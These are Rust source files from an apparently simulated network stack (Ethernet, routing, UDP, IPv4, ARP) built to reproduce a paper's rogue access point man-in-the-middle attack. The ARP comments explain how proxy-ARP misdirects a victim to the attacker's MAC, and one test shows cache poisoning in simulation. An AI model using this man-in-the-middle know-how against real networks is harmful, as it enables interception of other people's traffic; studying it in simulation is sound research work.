//! Both the wired LAN segments and the 802.11 data path converge on this
//! representation: the dot11 layer hands up `(src, dst, ethertype,
//! payload)` tuples which nodes re-frame as Ethernet for the host stack,
//! exactly as a real AP bridges 802.11 to 802.3.

use bytes::{BufMut, Bytes, BytesMut};
use rogue_dot11::MacAddr;

/// Minimum ethernet frame we accept (header only; no padding enforcement).
pub const HEADER_LEN: usize = 14;

/// A parsed Ethernet II frame.
#[derive(Clone, Debug, PartialEq)]
pub struct EthFrame {
    /// Destination MAC.
    pub dst: MacAddr,
    /// Source MAC.
    pub src: MacAddr,
    /// Ethertype (0x0800 IPv4, 0x0806 ARP).
    pub ethertype: u16,
    /// Payload bytes.
    pub payload: Bytes,
}

impl EthFrame {
    /// Build a frame.
    pub fn new(dst: MacAddr, src: MacAddr, ethertype: u16, payload: impl Into<Bytes>) -> EthFrame {
        EthFrame {
            dst,
            src,
            ethertype,
            payload: payload.into(),
        }
    }

    /// Serialize to wire bytes.
    pub fn encode(&self) -> Bytes {
        let mut buf = BytesMut::with_capacity(HEADER_LEN + self.payload.len());
        buf.put_slice(&self.dst.0);
        buf.put_slice(&self.src.0);
        buf.put_u16(self.ethertype);
        buf.put_slice(&self.payload);
        buf.freeze()
    }

    /// Parse wire bytes; the payload is a zero-copy view of `bytes`.
    pub fn decode(bytes: &Bytes) -> Option<EthFrame> {
        if bytes.len() < HEADER_LEN {
            return None;
        }
        Some(EthFrame {
            dst: MacAddr(bytes[0..6].try_into().unwrap()),
            src: MacAddr(bytes[6..12].try_into().unwrap()),
            ethertype: u16::from_be_bytes([bytes[12], bytes[13]]),
            payload: bytes.slice(HEADER_LEN..),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn roundtrip() {
        let f = EthFrame::new(
            MacAddr::local(1),
            MacAddr::local(2),
            0x0800,
            Bytes::from_static(b"ip payload"),
        );
        let g = EthFrame::decode(&f.encode()).unwrap();
        assert_eq!(f, g);
    }

    #[test]
    fn short_frame_rejected() {
        assert!(EthFrame::decode(&Bytes::from_static(&[0u8; 13])).is_none());
        assert!(EthFrame::decode(&Bytes::from_static(&[0u8; 14])).is_some());
    }

    #[test]
    fn ethertype_is_big_endian() {
        let f = EthFrame::new(MacAddr::local(1), MacAddr::local(2), 0x0806, Bytes::new());
        let bytes = f.encode();
        assert_eq!(&bytes[12..14], &[0x08, 0x06]);
    }
}
