//! Longest-prefix-match routing table.
//!
//! Supports exactly what the paper's bridge script configures: connected
//! subnets, /32 host routes (`route add -host 192.168.0.2 dev eth1`), and
//! a default gateway.

use crate::ip::{in_subnet, prefix_mask};
use crate::Ipv4Addr;

/// Interface index within a host.
pub type IfIndex = usize;

/// One route.
#[derive(Clone, Debug, PartialEq)]
pub struct Route {
    /// Destination network.
    pub network: Ipv4Addr,
    /// Prefix length (32 = host route).
    pub prefix_len: u8,
    /// Next-hop IP, or `None` for directly connected destinations.
    pub gateway: Option<Ipv4Addr>,
    /// Egress interface.
    pub ifindex: IfIndex,
}

/// The table.
#[derive(Clone, Debug, Default)]
pub struct RoutingTable {
    routes: Vec<Route>,
}

/// The result of a lookup: where to send the packet next.
#[derive(Clone, Copy, Debug, PartialEq)]
pub struct NextHop {
    /// IP whose MAC we must resolve (the gateway, or the destination
    /// itself when directly connected).
    pub via: Ipv4Addr,
    /// Egress interface.
    pub ifindex: IfIndex,
}

impl RoutingTable {
    /// Empty table.
    pub fn new() -> RoutingTable {
        RoutingTable::default()
    }

    /// Add a connected-subnet route.
    pub fn add_connected(&mut self, network: Ipv4Addr, prefix_len: u8, ifindex: IfIndex) {
        self.routes.push(Route {
            network,
            prefix_len,
            gateway: None,
            ifindex,
        });
    }

    /// Add a /32 host route out an interface (parprouted's
    /// `route add -host X dev Y`).
    pub fn add_host(&mut self, host: Ipv4Addr, ifindex: IfIndex) {
        self.routes.push(Route {
            network: host,
            prefix_len: 32,
            gateway: None,
            ifindex,
        });
    }

    /// Set the default route via `gateway`.
    pub fn add_default(&mut self, gateway: Ipv4Addr, ifindex: IfIndex) {
        self.routes.push(Route {
            network: Ipv4Addr::new(0, 0, 0, 0),
            prefix_len: 0,
            gateway: Some(gateway),
            ifindex,
        });
    }

    /// Add an arbitrary route.
    pub fn add(&mut self, route: Route) {
        self.routes.push(route);
    }

    /// Remove host routes for `host` (parprouted lease expiry).
    pub fn remove_host(&mut self, host: Ipv4Addr) {
        self.routes
            .retain(|r| !(r.prefix_len == 32 && r.network == host));
    }

    /// True if a /32 route for `host` exists.
    pub fn has_host(&self, host: Ipv4Addr) -> bool {
        self.routes
            .iter()
            .any(|r| r.prefix_len == 32 && r.network == host)
    }

    /// Longest-prefix lookup.
    pub fn lookup(&self, dst: Ipv4Addr) -> Option<NextHop> {
        self.routes
            .iter()
            .filter(|r| in_subnet(dst, r.network, r.prefix_len))
            .max_by_key(|r| r.prefix_len)
            .map(|r| NextHop {
                via: r.gateway.unwrap_or(dst),
                ifindex: r.ifindex,
            })
    }

    /// All routes (diagnostics).
    pub fn routes(&self) -> &[Route] {
        &self.routes
    }
}

/// Broadcast address of a subnet.
pub fn broadcast_addr(network: Ipv4Addr, prefix_len: u8) -> Ipv4Addr {
    Ipv4Addr::from(u32::from(network) | !prefix_mask(prefix_len))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn longest_prefix_wins() {
        let mut t = RoutingTable::new();
        t.add_default(Ipv4Addr::new(192, 168, 0, 1), 0);
        t.add_connected(Ipv4Addr::new(192, 168, 0, 0), 24, 1);
        t.add_host(Ipv4Addr::new(192, 168, 0, 42), 2);

        // Host route beats connected beats default.
        assert_eq!(
            t.lookup(Ipv4Addr::new(192, 168, 0, 42)).unwrap(),
            NextHop {
                via: Ipv4Addr::new(192, 168, 0, 42),
                ifindex: 2
            }
        );
        assert_eq!(t.lookup(Ipv4Addr::new(192, 168, 0, 7)).unwrap().ifindex, 1);
        let nh = t.lookup(Ipv4Addr::new(8, 8, 8, 8)).unwrap();
        assert_eq!(nh.via, Ipv4Addr::new(192, 168, 0, 1));
        assert_eq!(nh.ifindex, 0);
    }

    #[test]
    fn no_route_is_none() {
        let mut t = RoutingTable::new();
        t.add_connected(Ipv4Addr::new(10, 0, 0, 0), 8, 0);
        assert!(t.lookup(Ipv4Addr::new(11, 0, 0, 1)).is_none());
    }

    #[test]
    fn host_route_lifecycle() {
        let mut t = RoutingTable::new();
        let h = Ipv4Addr::new(192, 168, 0, 9);
        assert!(!t.has_host(h));
        t.add_host(h, 3);
        assert!(t.has_host(h));
        t.remove_host(h);
        assert!(!t.has_host(h));
        assert!(t.lookup(h).is_none());
    }

    #[test]
    fn broadcast_computation() {
        assert_eq!(
            broadcast_addr(Ipv4Addr::new(192, 168, 0, 0), 24),
            Ipv4Addr::new(192, 168, 0, 255)
        );
        assert_eq!(
            broadcast_addr(Ipv4Addr::new(10, 0, 0, 0), 8),
            Ipv4Addr::new(10, 255, 255, 255)
        );
    }
}
