//! UDP datagram codec (RFC 768) with pseudo-header checksums.

use bytes::{BufMut, Bytes, BytesMut};

use crate::ip::{checksum_with_pseudo, checksum_with_pseudo_zeroed_at};
use crate::{proto, Ipv4Addr};

/// UDP header length.
pub const HEADER_LEN: usize = 8;

/// A parsed UDP datagram.
#[derive(Clone, Debug, PartialEq)]
pub struct UdpDatagram {
    /// Source port.
    pub src_port: u16,
    /// Destination port.
    pub dst_port: u16,
    /// Payload.
    pub payload: Bytes,
}

impl UdpDatagram {
    /// Build a datagram.
    pub fn new(src_port: u16, dst_port: u16, payload: impl Into<Bytes>) -> UdpDatagram {
        UdpDatagram {
            src_port,
            dst_port,
            payload: payload.into(),
        }
    }

    /// Serialize, computing the checksum over the IPv4 pseudo-header.
    pub fn encode(&self, src: Ipv4Addr, dst: Ipv4Addr) -> Bytes {
        let len = HEADER_LEN + self.payload.len();
        assert!(len <= 65_535, "UDP datagram too large");
        let mut buf = BytesMut::with_capacity(len);
        buf.put_u16(self.src_port);
        buf.put_u16(self.dst_port);
        buf.put_u16(len as u16);
        buf.put_u16(0);
        buf.put_slice(&self.payload);
        let csum = checksum_with_pseudo(src, dst, proto::UDP, &buf);
        buf[6..8].copy_from_slice(&csum.to_be_bytes());
        buf.freeze()
    }

    /// Parse and verify the checksum; the payload is a zero-copy view
    /// of `bytes`.
    pub fn decode(src: Ipv4Addr, dst: Ipv4Addr, bytes: &Bytes) -> Option<UdpDatagram> {
        if bytes.len() < HEADER_LEN {
            return None;
        }
        let len = u16::from_be_bytes([bytes[4], bytes[5]]) as usize;
        if len < HEADER_LEN || len > bytes.len() {
            return None;
        }
        let bytes = bytes.slice(..len);
        let stored = u16::from_be_bytes([bytes[6], bytes[7]]);
        if stored != 0 {
            // Verify in place, with the checksum field counted as zero.
            let expect = checksum_with_pseudo_zeroed_at(src, dst, proto::UDP, &bytes, 6);
            if expect != stored {
                return None;
            }
        }
        Some(UdpDatagram {
            src_port: u16::from_be_bytes([bytes[0], bytes[1]]),
            dst_port: u16::from_be_bytes([bytes[2], bytes[3]]),
            payload: bytes.slice(HEADER_LEN..),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ips() -> (Ipv4Addr, Ipv4Addr) {
        (Ipv4Addr::new(10, 0, 0, 1), Ipv4Addr::new(10, 0, 0, 2))
    }

    #[test]
    fn roundtrip() {
        let (s, d) = ips();
        let dg = UdpDatagram::new(5000, 53, Bytes::from_static(b"query"));
        assert_eq!(UdpDatagram::decode(s, d, &dg.encode(s, d)).unwrap(), dg);
    }

    #[test]
    fn wrong_pseudo_header_fails() {
        // NAT that forgets to fix the checksum produces invalid datagrams.
        let (s, d) = ips();
        let dg = UdpDatagram::new(5000, 53, Bytes::from_static(b"query"));
        let bytes = dg.encode(s, d);
        assert!(UdpDatagram::decode(Ipv4Addr::new(9, 9, 9, 9), d, &bytes).is_none());
    }

    #[test]
    fn corrupt_payload_fails() {
        let (s, d) = ips();
        let dg = UdpDatagram::new(1, 2, Bytes::from_static(b"payload"));
        let mut bytes = dg.encode(s, d).to_vec();
        let n = bytes.len();
        bytes[n - 1] ^= 1;
        assert!(UdpDatagram::decode(s, d, &bytes.into()).is_none());
    }

    #[test]
    fn short_rejected() {
        let (s, d) = ips();
        assert!(UdpDatagram::decode(s, d, &Bytes::from_static(&[0u8; 7])).is_none());
    }

    #[test]
    fn empty_payload_ok() {
        let (s, d) = ips();
        let dg = UdpDatagram::new(7, 8, Bytes::new());
        assert_eq!(UdpDatagram::decode(s, d, &dg.encode(s, d)).unwrap(), dg);
    }
}
