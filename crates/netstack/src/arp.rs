//! ARP: codec, cache, and proxy-ARP.
//!
//! Proxy-ARP is the heart of the paper's transparent bridge: `parprouted`
//! makes the gateway answer ARP queries on each interface for hosts that
//! actually live behind the *other* interface, so the victim resolves the
//! legitimate gateway's IP to the attacker's MAC without noticing
//! anything. The cache and codec here are used by every host; the proxy
//! answering policy is driven by `rogue-services::parprouted`.

use bytes::{BufMut, Bytes, BytesMut};
use rogue_dot11::MacAddr;
use rogue_sim::{SimDuration, SimTime};
use std::collections::HashMap;

use crate::Ipv4Addr;

/// ARP operation codes.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ArpOp {
    /// Who-has.
    Request,
    /// Is-at.
    Reply,
}

/// A parsed ARP packet (Ethernet/IPv4 flavour only).
#[derive(Clone, Debug, PartialEq)]
pub struct ArpPacket {
    /// Operation.
    pub op: ArpOp,
    /// Sender hardware address.
    pub sender_mac: MacAddr,
    /// Sender protocol address.
    pub sender_ip: Ipv4Addr,
    /// Target hardware address (zero in requests).
    pub target_mac: MacAddr,
    /// Target protocol address.
    pub target_ip: Ipv4Addr,
}

impl ArpPacket {
    /// A who-has request for `target_ip`.
    pub fn request(sender_mac: MacAddr, sender_ip: Ipv4Addr, target_ip: Ipv4Addr) -> ArpPacket {
        ArpPacket {
            op: ArpOp::Request,
            sender_mac,
            sender_ip,
            target_mac: MacAddr::ZERO,
            target_ip,
        }
    }

    /// An is-at reply answering `req`.
    pub fn reply_to(req: &ArpPacket, my_mac: MacAddr) -> ArpPacket {
        ArpPacket {
            op: ArpOp::Reply,
            sender_mac: my_mac,
            sender_ip: req.target_ip,
            target_mac: req.sender_mac,
            target_ip: req.sender_ip,
        }
    }

    /// Serialize.
    pub fn encode(&self) -> Bytes {
        let mut buf = BytesMut::with_capacity(28);
        buf.put_u16(1); // hardware: ethernet
        buf.put_u16(0x0800); // protocol: IPv4
        buf.put_u8(6);
        buf.put_u8(4);
        buf.put_u16(match self.op {
            ArpOp::Request => 1,
            ArpOp::Reply => 2,
        });
        buf.put_slice(&self.sender_mac.0);
        buf.put_slice(&self.sender_ip.octets());
        buf.put_slice(&self.target_mac.0);
        buf.put_slice(&self.target_ip.octets());
        buf.freeze()
    }

    /// Parse.
    pub fn decode(bytes: &[u8]) -> Option<ArpPacket> {
        if bytes.len() < 28 {
            return None;
        }
        if bytes[0..2] != [0, 1] || bytes[2..4] != [0x08, 0x00] || bytes[4] != 6 || bytes[5] != 4 {
            return None;
        }
        let op = match u16::from_be_bytes([bytes[6], bytes[7]]) {
            1 => ArpOp::Request,
            2 => ArpOp::Reply,
            _ => return None,
        };
        Some(ArpPacket {
            op,
            sender_mac: MacAddr(bytes[8..14].try_into().unwrap()),
            sender_ip: Ipv4Addr::new(bytes[14], bytes[15], bytes[16], bytes[17]),
            target_mac: MacAddr(bytes[18..24].try_into().unwrap()),
            target_ip: Ipv4Addr::new(bytes[24], bytes[25], bytes[26], bytes[27]),
        })
    }
}

/// ARP cache entry lifetime.
pub const ARP_TTL: SimDuration = SimDuration::from_secs(300);
/// How long an unanswered resolution attempt is retried.
pub const ARP_RETRY: SimDuration = SimDuration::from_secs(1);

/// IP→MAC cache with expiry.
#[derive(Default, Debug)]
pub struct ArpCache {
    entries: HashMap<Ipv4Addr, (MacAddr, SimTime)>,
}

impl ArpCache {
    /// Empty cache.
    pub fn new() -> ArpCache {
        ArpCache::default()
    }

    /// Learn / refresh a mapping.
    pub fn insert(&mut self, now: SimTime, ip: Ipv4Addr, mac: MacAddr) {
        self.entries.insert(ip, (mac, now.saturating_add(ARP_TTL)));
    }

    /// Look up a live mapping.
    pub fn lookup(&self, now: SimTime, ip: Ipv4Addr) -> Option<MacAddr> {
        self.entries
            .get(&ip)
            .filter(|(_, exp)| *exp > now)
            .map(|(mac, _)| *mac)
    }

    /// Drop expired entries (called opportunistically).
    pub fn expire(&mut self, now: SimTime) {
        self.entries.retain(|_, (_, exp)| *exp > now);
    }

    /// All live (ip, mac) pairs — used by the parprouted daemon to learn
    /// which hosts live behind which interface.
    pub fn live_entries(&self, now: SimTime) -> Vec<(Ipv4Addr, MacAddr)> {
        let mut v: Vec<_> = self
            .entries
            .iter()
            .filter(|(_, (_, exp))| *exp > now)
            .map(|(ip, (mac, _))| (*ip, *mac))
            .collect();
        v.sort_by_key(|(ip, _)| u32::from(*ip));
        v
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn codec_roundtrip() {
        let req = ArpPacket::request(
            MacAddr::local(1),
            Ipv4Addr::new(192, 168, 0, 2),
            Ipv4Addr::new(192, 168, 0, 1),
        );
        assert_eq!(ArpPacket::decode(&req.encode()).unwrap(), req);
        let rep = ArpPacket::reply_to(&req, MacAddr::local(9));
        assert_eq!(ArpPacket::decode(&rep.encode()).unwrap(), rep);
        assert_eq!(rep.sender_ip, Ipv4Addr::new(192, 168, 0, 1));
        assert_eq!(rep.target_mac, MacAddr::local(1));
    }

    #[test]
    fn bad_packets_rejected() {
        assert!(ArpPacket::decode(&[0u8; 10]).is_none());
        let mut bytes = ArpPacket::request(
            MacAddr::local(1),
            Ipv4Addr::new(1, 1, 1, 1),
            Ipv4Addr::new(2, 2, 2, 2),
        )
        .encode()
        .to_vec();
        bytes[7] = 9; // bogus op
        assert!(ArpPacket::decode(&bytes).is_none());
    }

    #[test]
    fn cache_lookup_and_expiry() {
        let mut c = ArpCache::new();
        let t0 = SimTime::ZERO;
        c.insert(t0, Ipv4Addr::new(10, 0, 0, 1), MacAddr::local(5));
        assert_eq!(
            c.lookup(t0 + SimDuration::from_secs(1), Ipv4Addr::new(10, 0, 0, 1)),
            Some(MacAddr::local(5))
        );
        let late = t0 + ARP_TTL + SimDuration::from_secs(1);
        assert_eq!(c.lookup(late, Ipv4Addr::new(10, 0, 0, 1)), None);
        c.expire(late);
        assert!(c.live_entries(late).is_empty());
    }

    #[test]
    fn refresh_extends_lifetime() {
        let mut c = ArpCache::new();
        let ip = Ipv4Addr::new(10, 0, 0, 1);
        c.insert(SimTime::ZERO, ip, MacAddr::local(5));
        let mid = SimTime::ZERO + SimDuration::from_secs(250);
        c.insert(mid, ip, MacAddr::local(5));
        let later = SimTime::ZERO + ARP_TTL + SimDuration::from_secs(10);
        assert_eq!(c.lookup(later, ip), Some(MacAddr::local(5)));
    }

    #[test]
    fn poisoning_overwrites() {
        // ARP is unauthenticated: a later claim wins — the wired-MITM
        // primitive the paper contrasts with the easier wireless one.
        let mut c = ArpCache::new();
        let gw = Ipv4Addr::new(192, 168, 0, 1);
        c.insert(SimTime::ZERO, gw, MacAddr::local(1));
        c.insert(SimTime::from_secs(1), gw, MacAddr::local(666));
        assert_eq!(
            c.lookup(SimTime::from_secs(2), gw),
            Some(MacAddr::local(666))
        );
    }
}
