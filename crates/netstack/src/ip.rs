//! IPv4 header codec with real Internet checksums.
//!
//! No options, no fragmentation (DF always set): none of the reproduced
//! traffic fragments, and period attack tooling (netsed included) also
//! assumed whole segments.

use bytes::{BufMut, Bytes, BytesMut};

use crate::Ipv4Addr;

/// Fixed header length (no options).
pub const HEADER_LEN: usize = 20;

/// A parsed IPv4 packet.
#[derive(Clone, Debug, PartialEq)]
pub struct Ipv4Packet {
    /// Sender address.
    pub src: Ipv4Addr,
    /// Destination address.
    pub dst: Ipv4Addr,
    /// Protocol number (see [`crate::proto`]).
    pub protocol: u8,
    /// Remaining hop count.
    pub ttl: u8,
    /// Identification field (diagnostics only; we never fragment).
    pub ident: u16,
    /// Transport payload.
    pub payload: Bytes,
}

impl Ipv4Packet {
    /// Build a packet with a default TTL of 64.
    pub fn new(src: Ipv4Addr, dst: Ipv4Addr, protocol: u8, payload: impl Into<Bytes>) -> Self {
        Ipv4Packet {
            src,
            dst,
            protocol,
            ttl: 64,
            ident: 0,
            payload: payload.into(),
        }
    }

    /// Serialize with a valid header checksum.
    pub fn encode(&self) -> Bytes {
        let total_len = HEADER_LEN + self.payload.len();
        assert!(total_len <= 65_535, "IPv4 packet too large");
        let mut buf = BytesMut::with_capacity(total_len);
        buf.put_u8(0x45); // version 4, IHL 5
        buf.put_u8(0); // DSCP/ECN
        buf.put_u16(total_len as u16);
        buf.put_u16(self.ident);
        buf.put_u16(0x4000); // flags: DF
        buf.put_u8(self.ttl);
        buf.put_u8(self.protocol);
        buf.put_u16(0); // checksum placeholder
        buf.put_slice(&self.src.octets());
        buf.put_slice(&self.dst.octets());
        let csum = checksum(&buf[..HEADER_LEN]);
        buf[10..12].copy_from_slice(&csum.to_be_bytes());
        buf.put_slice(&self.payload);
        buf.freeze()
    }

    /// Parse and validate (version, lengths, checksum); the payload is a
    /// zero-copy view of `bytes`.
    pub fn decode(bytes: &Bytes) -> Option<Ipv4Packet> {
        if bytes.len() < HEADER_LEN {
            return None;
        }
        if bytes[0] != 0x45 {
            return None; // options unsupported
        }
        let total_len = u16::from_be_bytes([bytes[2], bytes[3]]) as usize;
        if total_len < HEADER_LEN || total_len > bytes.len() {
            return None;
        }
        if checksum(&bytes[..HEADER_LEN]) != 0 {
            return None;
        }
        Some(Ipv4Packet {
            src: Ipv4Addr::new(bytes[12], bytes[13], bytes[14], bytes[15]),
            dst: Ipv4Addr::new(bytes[16], bytes[17], bytes[18], bytes[19]),
            protocol: bytes[9],
            ttl: bytes[8],
            ident: u16::from_be_bytes([bytes[4], bytes[5]]),
            payload: bytes.slice(HEADER_LEN..total_len),
        })
    }
}

/// RFC 1071 Internet checksum over `data`. Returns the value to *store*
/// (one's-complement of the sum); summing a buffer containing a correct
/// checksum yields 0.
pub fn checksum(data: &[u8]) -> u16 {
    !fold(sum_words(data, 0))
}

/// Checksum with a pseudo-header prefix sum (TCP/UDP).
pub fn checksum_with_pseudo(src: Ipv4Addr, dst: Ipv4Addr, protocol: u8, payload: &[u8]) -> u16 {
    let mut acc: u32 = 0;
    acc = sum_words(&src.octets(), acc);
    acc = sum_words(&dst.octets(), acc);
    acc += protocol as u32;
    acc += payload.len() as u32;
    acc = sum_words(payload, acc);
    let folded = fold(acc);
    let out = !folded;
    // Per RFC 768, a computed 0 is transmitted as all-ones.
    if out == 0 {
        0xFFFF
    } else {
        out
    }
}

/// [`checksum_with_pseudo`] with the 16-bit word at even offset
/// `zero_at` treated as zero — lets TCP/UDP verify a received segment
/// in place instead of copying it just to blank the checksum field.
/// Exact: an aligned word contributes once to the u32 accumulator, so
/// subtracting it afterwards is bit-identical to zeroing it first.
pub fn checksum_with_pseudo_zeroed_at(
    src: Ipv4Addr,
    dst: Ipv4Addr,
    protocol: u8,
    payload: &[u8],
    zero_at: usize,
) -> u16 {
    debug_assert!(zero_at.is_multiple_of(2) && zero_at + 2 <= payload.len());
    let mut acc: u32 = 0;
    acc = sum_words(&src.octets(), acc);
    acc = sum_words(&dst.octets(), acc);
    acc += protocol as u32;
    acc += payload.len() as u32;
    acc = sum_words(payload, acc);
    acc -= u16::from_be_bytes([payload[zero_at], payload[zero_at + 1]]) as u32;
    let out = !fold(acc);
    // Per RFC 768, a computed 0 is transmitted as all-ones.
    if out == 0 {
        0xFFFF
    } else {
        out
    }
}

fn sum_words(data: &[u8], mut acc: u32) -> u32 {
    let mut chunks = data.chunks_exact(2);
    for c in &mut chunks {
        acc += u16::from_be_bytes([c[0], c[1]]) as u32;
    }
    if let [last] = chunks.remainder() {
        acc += (*last as u32) << 8;
    }
    acc
}

fn fold(mut acc: u32) -> u16 {
    while acc >> 16 != 0 {
        acc = (acc & 0xFFFF) + (acc >> 16);
    }
    acc as u16
}

/// Does `addr` fall inside `network/prefix_len`?
pub fn in_subnet(addr: Ipv4Addr, network: Ipv4Addr, prefix_len: u8) -> bool {
    let mask = prefix_mask(prefix_len);
    u32::from(addr) & mask == u32::from(network) & mask
}

/// Netmask as a u32 for a prefix length.
pub fn prefix_mask(prefix_len: u8) -> u32 {
    assert!(prefix_len <= 32);
    if prefix_len == 0 {
        0
    } else {
        u32::MAX << (32 - prefix_len)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn roundtrip() {
        let p = Ipv4Packet::new(
            Ipv4Addr::new(192, 168, 0, 2),
            Ipv4Addr::new(10, 0, 0, 1),
            6,
            Bytes::from_static(b"segment"),
        );
        let g = Ipv4Packet::decode(&p.encode()).unwrap();
        assert_eq!(p, g);
    }

    #[test]
    fn rfc1071_example() {
        // Classic example: checksum of 00 01 f2 03 f4 f5 f6 f7 = 0x220d.
        let data = [0x00, 0x01, 0xf2, 0x03, 0xf4, 0xf5, 0xf6, 0xf7];
        assert_eq!(checksum(&data), 0x220d);
    }

    #[test]
    fn corrupted_header_rejected() {
        let p = Ipv4Packet::new(
            Ipv4Addr::new(1, 2, 3, 4),
            Ipv4Addr::new(5, 6, 7, 8),
            17,
            Bytes::new(),
        );
        let mut bytes = p.encode().to_vec();
        bytes[8] ^= 0xFF; // mangle TTL without fixing checksum
        assert!(Ipv4Packet::decode(&bytes.into()).is_none());
    }

    #[test]
    fn truncated_rejected() {
        let p = Ipv4Packet::new(
            Ipv4Addr::new(1, 2, 3, 4),
            Ipv4Addr::new(5, 6, 7, 8),
            17,
            Bytes::from_static(b"0123456789"),
        );
        let bytes = p.encode();
        assert!(Ipv4Packet::decode(&bytes.slice(..bytes.len() - 5)).is_none());
    }

    #[test]
    fn extra_trailing_bytes_tolerated() {
        // Ethernet pads short frames; total_len governs.
        let p = Ipv4Packet::new(
            Ipv4Addr::new(1, 2, 3, 4),
            Ipv4Addr::new(5, 6, 7, 8),
            17,
            Bytes::from_static(b"x"),
        );
        let mut bytes = p.encode().to_vec();
        bytes.extend_from_slice(&[0u8; 12]);
        let g = Ipv4Packet::decode(&bytes.into()).unwrap();
        assert_eq!(&g.payload[..], b"x");
    }

    #[test]
    fn odd_length_checksum() {
        let data = [0xAB];
        // One byte is padded with a zero low byte.
        assert_eq!(checksum(&data), !0xAB00);
    }

    #[test]
    fn subnet_membership() {
        let net = Ipv4Addr::new(192, 168, 0, 0);
        assert!(in_subnet(Ipv4Addr::new(192, 168, 0, 42), net, 24));
        assert!(!in_subnet(Ipv4Addr::new(192, 168, 1, 42), net, 24));
        assert!(in_subnet(Ipv4Addr::new(192, 168, 1, 42), net, 16));
        assert!(
            in_subnet(Ipv4Addr::new(8, 8, 8, 8), net, 0),
            "default route"
        );
    }

    #[test]
    fn pseudo_header_checksum_changes_with_addresses() {
        let a = checksum_with_pseudo(
            Ipv4Addr::new(1, 1, 1, 1),
            Ipv4Addr::new(2, 2, 2, 2),
            6,
            b"data",
        );
        let b = checksum_with_pseudo(
            Ipv4Addr::new(1, 1, 1, 2),
            Ipv4Addr::new(2, 2, 2, 2),
            6,
            b"data",
        );
        assert_ne!(a, b, "NAT must recompute transport checksums");
    }
}
